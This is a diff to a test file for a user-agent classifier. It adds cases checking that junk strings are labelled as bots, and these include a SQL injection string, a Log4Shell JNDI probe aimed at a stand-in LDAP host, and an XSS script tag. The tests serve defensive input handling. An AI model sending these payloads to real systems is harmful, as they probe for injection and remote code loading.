@@ -154,6 +154,15 @@ describe('classifyUserAgent', () => {
       expect(classifyUserAgent(ua).class).toBe('bot');
     });
 
+    it.each([
+      ['words without a product or platform', "' OR 1=1 --"],
+      ['a Log4Shell probe', '${jndi:ldap://x.example/a}'],
+      ['a script tag', 'Mozilla/5.0 <script>alert(1)</script>'],
+      ['plain words', 'Hello World'],
+    ])('garbage: %s is a bot', (_what, ua) => {
+      expect(classifyUserAgent(ua).class).toBe('bot');
+    });
+
     it('the Android emulator ("Android SDK built for x86") stays human', () => {
       const ua = 'Mozilla/5.0 (Linux; Android 11; Android SDK built for x86) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/83.0.4103.106 Mobile Safari/537.36';
       expect(classifyUserAgent(ua).class).toBe('human');
